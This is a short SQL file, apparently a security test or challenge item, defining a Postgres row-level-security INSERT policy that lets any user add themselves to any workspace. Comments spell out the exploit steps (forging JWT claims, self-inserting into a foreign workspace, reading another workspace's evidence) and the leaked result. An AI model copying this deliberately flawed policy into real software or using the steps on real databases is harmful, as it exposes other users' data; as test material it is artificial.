-- A user makes itself a member of any workspace, as the insert asks only that the row is about itself.
-- about: members, evidence
-- as: hf_proofroom_app
-- exploit: SET request.jwt.claims = '{"sub": "a1111111-0000-4000-8000-0000000000aa"}';
-- exploit: INSERT INTO proof.members (workspace_id, user_id) VALUES
-- exploit:   ('b2222222-0000-4000-8000-000000000002', 'a1111111-0000-4000-8000-0000000000aa');
-- exploit: SELECT summary FROM proof.evidence;
-- shows: Road-secret failed test
GRANT INSERT ON proof.members TO hf_proofroom_app;
CREATE POLICY "Users add themselves" ON proof.members FOR INSERT TO hf_proofroom_app
  WITH CHECK (user_id = proof.uid());
